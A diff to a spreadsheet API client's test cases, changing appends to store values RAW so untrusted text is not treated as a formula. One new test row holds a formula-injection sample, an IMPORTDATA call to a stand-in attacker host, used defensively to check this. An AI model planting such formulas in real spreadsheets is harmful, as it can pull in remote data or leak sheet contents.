@@ -97,25 +97,25 @@ export const cases = [
   lookup('there may be no such row', 'email', 'eve@example.com', { found: false }),
   lookup('there may be no such column', 'colour', 'red', { found: false }),
   gives(
-    ['append_rows', 'rows are appended'],
-    { ...SHEET, range: 'Orders', rows: [['pen', 2]] },
+    ['append_rows', 'rows are appended as they are: a text of a stranger is no formula'],
+    { ...SHEET, range: 'Orders', rows: [['=IMPORTDATA("https://evil.example")', 2]] },
     [
       `POST ${VALUES}/Orders:append`,
       {
-        query: { valueInputOption: 'USER_ENTERED', insertDataOption: 'INSERT_ROWS' },
-        body: { majorDimension: 'ROWS', values: [['pen', 2]] },
+        query: { valueInputOption: 'RAW', insertDataOption: 'INSERT_ROWS' },
+        body: { majorDimension: 'ROWS', values: [['=IMPORTDATA("https://evil.example")', 2]] },
       },
     ],
     { spreadsheetId: '1BxiMVs0', tableRange: 'Orders!A1:B9', updates: CHANGED },
     CHANGED,
   ),
   gives(
-    ['update_range', 'cells are written as they are'],
-    { ...SHEET, range: 'Orders!A1:B1', rows: [['=A', null]], as: 'RAW' },
+    ['update_range', 'cells are written as if typed, where the author says so'],
+    { ...SHEET, range: 'Orders!A1:B1', rows: [['=A', null]], as: 'USER_ENTERED' },
     [
       `PUT ${VALUES}/Orders!A1%3AB1`,
       {
-        query: { valueInputOption: 'RAW' },
+        query: { valueInputOption: 'USER_ENTERED' },
         body: { range: 'Orders!A1:B1', majorDimension: 'ROWS', values: [['=A', null]] },
       },
     ],
@@ -127,7 +127,7 @@ export const cases = [
     [
       `PUT ${VALUES}/'Ada''s'!A12`,
       {
-        query: { valueInputOption: 'USER_ENTERED' },
+        query: { valueInputOption: 'RAW' },
         body: { range: "'Ada''s'!A12", majorDimension: 'ROWS', values: [['pen', 2]] },
       },
     ],
